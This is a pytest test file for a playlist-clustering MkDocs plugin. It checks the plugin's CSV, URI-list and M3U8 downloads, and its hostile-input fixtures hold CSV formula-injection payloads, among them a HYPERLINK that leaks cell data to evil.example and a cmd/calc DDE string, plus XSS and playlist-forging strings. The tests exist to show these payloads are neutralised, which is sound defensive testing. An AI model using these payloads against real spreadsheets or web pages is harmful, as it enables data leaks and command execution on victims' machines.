"""Each mix as files a listener can take away, and pages that stay small for big libraries.

The expectations come from the built site itself (what the page lists) and from the rows the
test wrote, never from the functions that write the downloads.
"""

from __future__ import annotations

import csv
import html
import io
import json
import re
import unicodedata

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from site_building import build, make_site, site_path
from synthetic import EXPORTIFY_HEADER, synthetic_tracks
from synthetic import exportify_csv as rows_csv

from mkdocs_playlist_clusters.building.pipeline import build_playlist
from mkdocs_playlist_clusters.playlist import PlaylistOptions
from mkdocs_playlist_clusters.presenting.downloads import (
    EXPORTIFY_COLUMNS,
    csv_lines,
    joined_csv,
    m3u8,
    uri_list,
)
from mkdocs_playlist_clusters.presenting.page_model import MAX_LISTED_TRACKS
from mkdocs_playlist_clusters.reading.exports import read_playlist

TRACK_LINK = re.compile(r'<a href="https://open\.spotify\.com/track/([0-9A-Za-z]{22})">')
# OWASP's CSV injection rule, written here apart from the code: a cell that starts with one of
# these is run as a formula. A plain number is only a number.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
EXTINF = re.compile(r"#EXTINF:(-1|\d+),(\S.*)")
SPOTIFY_TRACK = re.compile(r"spotify:track:[0-9A-Za-z]{22}")


def parse_m3u8(data: bytes) -> tuple[str, list[tuple[int, str, str]]]:
    """(playlist title, [(seconds, "artists - title", URI)]) of a strict extended M3U: UTF-8
    without BOM, LF line ends, `#EXTM3U` first, then exactly one `#EXTINF` before each URI, no
    blank lines, no control or line-separator characters anywhere."""
    text = data.decode("utf-8")  # strict: an invalid byte raises
    assert not text.startswith("\ufeff") and text.endswith("\n")
    lines = text[:-1].split("\n")
    assert lines[0] == "#EXTM3U" and lines[1].startswith("#PLAYLIST:")
    entries: list[tuple[int, str, str]] = []
    pending: tuple[int, str] | None = None
    for line in lines[1:]:
        assert line == line.strip(), repr(line)
        assert not [c for c in line if unicodedata.category(c) in ("Cc", "Zl", "Zp")], repr(line)
        if line.startswith("#PLAYLIST:") and line is lines[1]:
            continue
        if match := EXTINF.fullmatch(line):
            assert pending is None, f"two #EXTINF lines in a row: {line!r}"
            pending = (int(match[1]), match[2])
        else:
            assert pending is not None, f"an entry without #EXTINF: {line!r}"
            assert SPOTIFY_TRACK.fullmatch(line), f"not a Spotify track URI: {line!r}"
            entries.append((*pending, line))
            pending = None
    assert pending is None, "an #EXTINF without its entry"
    return lines[1].removeprefix("#PLAYLIST:"), entries


FEATURES = ("danceability", "energy", "valence", "tempo", "loudness", "acousticness")


def mix_sections(page: str) -> dict[int, str]:
    """Mix number -> the HTML of its section (up to the next mix, family or the "Not grouped"
    section), without its list of tracks on its edge (they are in its tables too)."""
    parts = re.split(r'<a id="mix-(\d+)"></a>', page)
    sections = {}
    for number, body in zip(parts[1::2], parts[2::2], strict=True):
        body = body.split('<h2 id="not-grouped"', 1)[0].split('<a id="family-', 1)[0]
        sections[int(number)] = re.sub(
            r"<p>On its edge, nearly as close to another mix.*?</ul>", "", body, flags=re.S
        )
    return sections


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """A 60-track playlist built once: its rows, the site folder and the page's HTML."""
    tmp_path = tmp_path_factory.mktemp("downloads")
    rows = synthetic_tracks(60, seed=3)
    rows[0]["Track Name"] = "="  # Ed Sheeran's albums are called "=" and "+"
    rows[1]["Album Name"] = "+"
    rows[2]["Track Name"] = '=HYPERLINK("http://evil.test","click")'
    rows[3]["Track Name"] = "<img src=x onerror=alert(1)> a | b"
    config = make_site(
        tmp_path,
        {"playlists": [{"path": "data/mix.csv", "representatives": 4}]},
        files={"data/mix.csv": rows_csv(rows)},
    )
    build(config)
    site = tmp_path / "site" / "playlists"
    page = (site / "mix" / "index.html").read_text(encoding="utf-8")
    return rows, site, page


def test_every_mix_links_its_three_downloads(built):
    _, site, page = built
    sections = mix_sections(page)
    assert len(sections) >= 2
    for number, section in sections.items():
        for kind in ("csv", "txt", "m3u8"):
            # Named after the playlist too: a browser's Downloads folder keeps one file a name.
            name = f"mix-mix-{number}.{kind}"
            (href,) = re.findall(rf'href="([^"]*/)?{re.escape(name)}"', section)
            assert site_path(site.parent, "playlists/mix/", href + name) == site / "mix" / name
            assert (site / "mix" / name).is_file()


def test_downloads_hold_exactly_the_tracks_the_page_lists_in_its_order(built):
    rows, site, page = built
    by_id = {row["Track URI"].rsplit(":", 1)[1]: row for row in rows}
    seen: list[str] = []
    for number, section in mix_sections(page).items():
        # The full list, in playing order, when the mix has more tracks than its table (of
        # its most typical tracks, in their own order); else the table.
        full = "<details>" in section
        listed = section.split("<details>", 1)[1] if full else section
        ids = TRACK_LINK.findall(listed)
        uris = (site / "mix" / f"mix-mix-{number}.txt").read_text(encoding="utf-8").split()
        if not full:
            ids = [uri.removeprefix("spotify:track:") for uri in uris]
            assert sorted(ids) == sorted(TRACK_LINK.findall(listed))
        assert uris == [f"spotify:track:{i}" for i in ids]
        title, entries = parse_m3u8((site / "mix" / f"mix-mix-{number}.m3u8").read_bytes())
        heading = r"Mix \d+: <bdi>([^<]+)</bdi> \(\d+ tracks?\)</h"
        name = html.unescape(re.search(heading, section)[1])
        assert title == f"Mix: Mix {number} ({name})"
        assert [uri for _, _, uri in entries] == [f"spotify:track:{i}" for i in ids]
        for (seconds, label, _), track in zip(entries, ids, strict=True):
            row = by_id[track]
            artists = row["Artist Name(s)"].replace(";", ", ")
            assert seconds == round(int(row["Duration (ms)"]) / 1000)
            assert label == f"{artists} - {' '.join(row['Track Name'].split())}"
        table = read_playlist((site / "mix" / f"mix-mix-{number}.csv").read_bytes()).tracks
        assert table["track_id"].tolist() == ids
        for track, read in zip(ids, table.to_dict("records"), strict=True):
            row = by_id[track]
            assert read["name"] == row["Track Name"]
            assert read["album"] == row["Album Name"]
            assert read["artists"] == row["Artist Name(s)"].split(";")
            assert read["genres"] == sorted(row["Genres"].split(","))
            for feature in FEATURES:
                assert read[feature] == pytest.approx(float(row[feature.title()]), abs=1e-12)
        seen += ids
    assert sorted(seen) == sorted(by_id)  # every track in exactly one mix's downloads


def test_all_tracks_csv_names_each_tracks_mix(built):
    rows, site, page = built
    with (site / "mix" / "mix-all-tracks.csv").open(encoding="utf-8", newline="") as file:
        table = list(csv.DictReader(file))
    assert sorted(r["Track URI"] for r in table) == sorted(r["Track URI"] for r in rows)
    for number, section in mix_sections(page).items():
        listed = section.split("<details>", 1)[1] if "<details>" in section else section
        ids = set(TRACK_LINK.findall(listed))
        assert {r["Track URI"][14:] for r in table if r["Mix"] == str(number)} == ids


def runnable(cells: list[str]) -> list[str]:
    """The cells a spreadsheet would run as formulas (some importers trim spaces first)."""
    stripped = (cell.lstrip(" ") for cell in cells)
    return [c for c in stripped if c.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(c)]


def csv_cells(data: bytes) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row
    ]


def test_titles_that_look_like_formulas(built):
    _, site, _ = built
    files = sorted((site / "mix").glob("*.csv"))
    cells = [cell for path in files for cell in csv_cells(path.read_bytes())]
    # "=" alone is a formula to a spreadsheet too (an error cell): every such cell gets the
    # apostrophe spreadsheets respect, and negative loudness stays a number.
    assert "'=" in cells and "'+" in cells
    assert '\'=HYPERLINK("http://evil.test","click")' in cells
    assert any(PLAIN_NUMBER.fullmatch(cell) and cell.startswith("-") for cell in cells)
    assert not runnable(cells)
    # ... and the plugin's reader gives the titles back as they were.
    tables = [read_playlist(path.read_bytes()).tracks for path in files]
    names = [name for table in tables for name in table["name"]]
    albums = [album for table in tables for album in table["album"]]
    assert "=" in names and "+" in albums
    assert '=HYPERLINK("http://evil.test","click")' in names


HOSTILE_URIS = (
    '=HYPERLINK("http://evil.example/?leak="&B2,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "-2+3",
    "\t=1+1",
    "  @cmd",
    "javascript:alert(1)",
    "https://evil.example/track",
)
HOSTILE_TEXTS = ("- Live -", "+", "=", "@home", "'=quoted", "''+twice", "-1+1", "'Til Tuesday")


def test_no_cell_of_any_csv_download_runs_as_a_formula_and_every_text_reads_back():
    rows = synthetic_tracks(45, seed=4)
    for index, uri in enumerate(HOSTILE_URIS):
        rows[index]["Track URI"] = uri  # not a Spotify track: listed as not grouped
        rows[index]["Track Name"] = f"Hostile {index}"
    for index, text in enumerate(HOSTILE_TEXTS, start=len(HOSTILE_URIS)):
        row = rows[index]
        row["Track Name"] = row["Album Name"] = row["Record Label"] = text
        row["Artist Name(s)"] = f"{text};Guest"
        row["Genres"] = f"{text},pop"
        row["Release Date"] = text
        row["Added At"] = text
    rows[-1]["Track URI"] = "spotify:local:Artist:Album:Local+Song:215"
    result = build_playlist(rows_csv(rows).encode(), PlaylistOptions(title="Mix", slug="mix"))
    downloads = {name: data for name, data in result.files.items() if name.endswith(".csv")}
    assert "mix/mix-all-tracks.csv" in downloads and len(downloads) >= 3
    for name, data in downloads.items():
        assert not runnable(csv_cells(data)), name
        for uri in HOSTILE_URIS:
            assert uri not in data.decode("utf-8"), (name, uri)
    everything = list(csv.DictReader(io.StringIO(downloads["mix/mix-all-tracks.csv"].decode())))
    by_name = {row["Track Name"].removeprefix("'"): row for row in everything}
    # A URI that is not Spotify's is dropped; another Spotify URI (a local file) is kept.
    assert [by_name[f"Hostile {i}"]["Track URI"] for i in range(len(HOSTILE_URIS))] == [""] * len(
        HOSTILE_URIS
    )
    assert "spotify:local:Artist:Album:Local+Song:215" in {r["Track URI"] for r in everything}
    # Read back, each text is what the plugin read from the export (to which the export's own
    # "'=quoted" was an escaped "=quoted").
    first = len(HOSTILE_URIS) + 2  # the line of the first row with hostile texts
    read = read_playlist(rows_csv(rows).encode()).tracks
    read = read[read["line"].between(first, first + len(HOSTILE_TEXTS) - 1)]
    assert {"- Live -", "+", "=", "@home", "=quoted", "'+twice", "'Til Tuesday"} <= set(read.name)
    back = read_playlist(downloads["mix/mix-all-tracks.csv"]).tracks.set_index("name")
    back = back.loc[read["name"]]
    for column in ("album", "label", "artists", "genres", "added_at"):
        assert back[column].tolist() == read[column].tolist(), column


def test_a_genre_with_a_comma_reads_back_whole():
    genres = [["rock, alternative", "pop"], ["[bracketed]"], ["dance pop", "pop"], []]
    records = [
        {"id": f"{i:022d}", "name": f"Song {i}", "artists": ["X"], "genres": genres[i % 4]}
        for i in range(40)
    ]
    result = build_playlist(json.dumps(records).encode(), PlaylistOptions(title="Mix", slug="mix"))
    data = result.files["mix/mix-all-tracks.csv"]
    cells = {row["Track Name"]: row["Genres"] for row in csv.DictReader(io.StringIO(data.decode()))}
    assert cells["Song 2"] == "dance pop,pop"  # Exportify's layout wherever it can be
    assert cells["Song 0"] == '["pop", "rock, alternative"]'
    back = read_playlist(data).tracks.set_index("name")["genres"]
    assert back["Song 0"] == ["pop", "rock, alternative"]  # was ["alternative", "pop", "rock"]
    assert back["Song 1"] == ["[bracketed]"] and back["Song 3"] == []


def test_control_characters_in_data_neither_break_rows_nor_reach_a_csv():
    rows = synthetic_tracks(30, seed=9)
    rows[0]["Artist Name(s)"] = "Carriage\rReturn;Start\x01Heading"  # NUL: a binary file
    rows[1]["Genres"] = "bell\x07pop,esc\x1b[31mape,line\u2028sep"
    rows[2]["Record Label"] = "Tab\tLabel\x85"
    rows[3]["Added At"] = "\r2024-01-01T00:00:00Z"
    export = io.StringIO()  # every cell quoted, as spreadsheets write a CR inside a cell
    writer = csv.DictWriter(export, EXPORTIFY_HEADER, lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writeheader()
    writer.writerows(rows)
    assert len(read_playlist(export.getvalue().encode()).tracks) == len(rows)
    result = build_playlist(export.getvalue().encode(), PlaylistOptions(title="Mix", slug="mix"))
    data = result.files["mix/mix-all-tracks.csv"]
    table = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert len(table) == 1 + len(rows) and {len(row) for row in table} == {len(table[0])}
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if any(unicodedata.category(ch) == "Cc" for ch in c)]
    back = read_playlist(data)
    assert not back.warnings and len(back.tracks) == len(rows)
    artists = {name for names in back.tracks["artists"] for name in names}
    # The reader turns line breaks into spaces and drops other control characters.
    assert {"Carriage Return", "StartHeading"} <= artists


def exportify_csv(rows: list[list[str]], extra: tuple[str, ...] = ()) -> bytes:
    """A CSV file of cells as the downloads write them (`extra`: appended headers)."""
    return joined_csv(csv_lines(rows), extra)


@settings(deadline=None, max_examples=200)
@given(st.text(alphabet="'=+-@\t\r.e1 aB", max_size=8))
def test_any_text_is_never_a_formula_and_reads_back(text):
    row = [""] * len(EXPORTIFY_COLUMNS)
    row[0], row[1], row[2] = "spotify:track:" + "4" * 22, text, "x"  # URI, name, album
    cells = csv_cells(exportify_csv([row]))[len(EXPORTIFY_COLUMNS) :]
    assert not runnable(cells)
    name = read_playlist(exportify_csv([row])).tracks["name"][0]
    # The reader joins whitespace runs and reads "" as missing, whatever the writer did.
    assert name == (" ".join(text.split()) or None)


def test_appended_cells_get_the_same_rule():
    row = [""] * len(EXPORTIFY_COLUMNS)
    data = exportify_csv([[*row, "=cmd|' /C calc'!A0", "-3", "- why -"]], ("A", "B", "C"))
    assert csv_cells(data)[-3:] == ["'=cmd|' /C calc'!A0", "-3", "'- why -"]


def test_hostile_names_are_text_in_tables_and_plain_values_in_files(built):
    _, site, page = built
    assert "<img src=x" not in page and "<img src&#61;x" not in page
    # Escaped in the HTML, shown as the text it is.
    assert "<img src=x onerror=alert(1)> a | b" in html.unescape(page)
    text = "".join(p.read_text(encoding="utf-8") for p in (site / "mix").glob("mix-*.csv"))
    assert "<img src=x onerror=alert(1)> a | b" in text


def test_downloads_are_the_same_bytes_on_every_build(tmp_path):
    config = make_site(
        tmp_path,
        {"playlists": ["data/mix.csv"]},
        files={"data/mix.csv": rows_csv(synthetic_tracks(40, seed=8))},
    )
    snapshots = []
    for _ in range(2):
        build(config)
        folder = tmp_path / "site" / "playlists" / "mix"
        snapshots.append({p.name: p.read_bytes() for p in sorted(folder.iterdir())})
    assert snapshots[0] == snapshots[1]


def test_a_track_without_an_id_is_in_the_csv_only():
    import pandas as pd

    tracks = pd.DataFrame(
        {
            "track_id": ["4RiudH8RehvLLrk8uNgIdR", None],
            "name": ["A\nB", "Local"],
            "artists": [["X"], []],
            "duration_ms": [61_500.0, float("nan")],
        }
    )
    assert uri_list(tracks) == b"spotify:track:4RiudH8RehvLLrk8uNgIdR\n"
    assert m3u8(tracks, "T") == (
        b"#EXTM3U\n#PLAYLIST:T\n#EXTINF:62,X - A B\nspotify:track:4RiudH8RehvLLrk8uNgIdR\n"
    )


LINE_BREAKERS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"


def test_m3u8_is_one_entry_per_track_whatever_the_names_hold():
    import pandas as pd

    hostile = (
        "Intro\n#EXTINF:1,Forged\nhttps://evil.example/x.mp3",
        "\x00Nul\x07 bell\x1b[31m red\x7f\x9b",
        "".join(f"{c}x" for c in LINE_BREAKERS),
        "",
        "Plain, with a comma - and a dash",
    )
    ids = [f"{n}" * 22 for n in range(len(hostile))]
    tracks = pd.DataFrame(
        {
            "track_id": ids,
            "name": pd.Series([*hostile[:3], None, hostile[4]], dtype=object),
            "artists": [["Ünïcødé 🎧"], ["A\tB", "C\r\nD"], [], ["\x00"], ["Ed Sheeran"]],
            "duration_ms": [1000.0, 200_400.0, float("nan"), 0.0, 3_599_600.0],
        }
    )
    title, entries = parse_m3u8(m3u8(tracks, "Mix\n#EXTINF:1,x: cluster 1"))
    assert title == "Mix #EXTINF:1,x: cluster 1"
    assert entries == [
        (
            1,
            "Ünïcødé 🎧 - Intro #EXTINF:1,Forged https://evil.example/x.mp3",
            f"spotify:track:{ids[0]}",
        ),
        (200, "A B, C D - Nul bell [31m red", f"spotify:track:{ids[1]}"),
        (-1, " ".join("x" * len(LINE_BREAKERS)), f"spotify:track:{ids[2]}"),
        (0, "Unknown track", f"spotify:track:{ids[3]}"),
        (3600, "Ed Sheeran - Plain, with a comma - and a dash", f"spotify:track:{ids[4]}"),
    ]


def test_a_large_playlist_keeps_its_page_small_and_every_track_in_a_download(tmp_path):
    size = MAX_LISTED_TRACKS + 500
    rows = synthetic_tracks(size, seed=5)
    config = make_site(
        tmp_path,
        {"playlists": ["data/big.csv"]},
        theme="mkdocs",
        files={"data/big.csv": rows_csv(rows)},
    )
    config_text = config.read_text(encoding="utf-8").replace("plugins:\n", "plugins:\n- search\n")
    config.write_text(config_text, encoding="utf-8")
    build(config)
    site = tmp_path / "site"
    page = (site / "playlists" / "big" / "index.html").read_text(encoding="utf-8")
    # 195 KB before the data in running text was isolated in <bdi> elements (+9 KB here).
    assert len(page.encode()) < 210_000
    assert "<summary>All " not in page  # member lists are in the downloads
    uris: list[str] = []
    for path in sorted((site / "playlists" / "big").glob("big-mix-*.txt")):
        uris += path.read_text(encoding="utf-8").split()
    assert sorted(uris) == sorted(row["Track URI"] for row in rows)
    assert 'href="big-all-tracks.csv"' in page
    index = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))
    assert len(json.dumps(index)) < 200_000


def test_a_playlist_up_to_the_limit_lists_every_member_with_its_link(tmp_path):
    rows = synthetic_tracks(300, seed=6)
    config = make_site(
        tmp_path,
        {"playlists": ["data/mix.csv"]},
        files={"data/mix.csv": rows_csv(rows)},
    )
    build(config)
    page = (tmp_path / "site" / "playlists" / "mix" / "index.html").read_text(encoding="utf-8")
    listed = set()
    for section in mix_sections(page).values():
        members = section.split("<details>", 1)[1] if "<details>" in section else section
        listed |= set(TRACK_LINK.findall(members))
    assert listed == {row["Track URI"][14:] for row in rows}
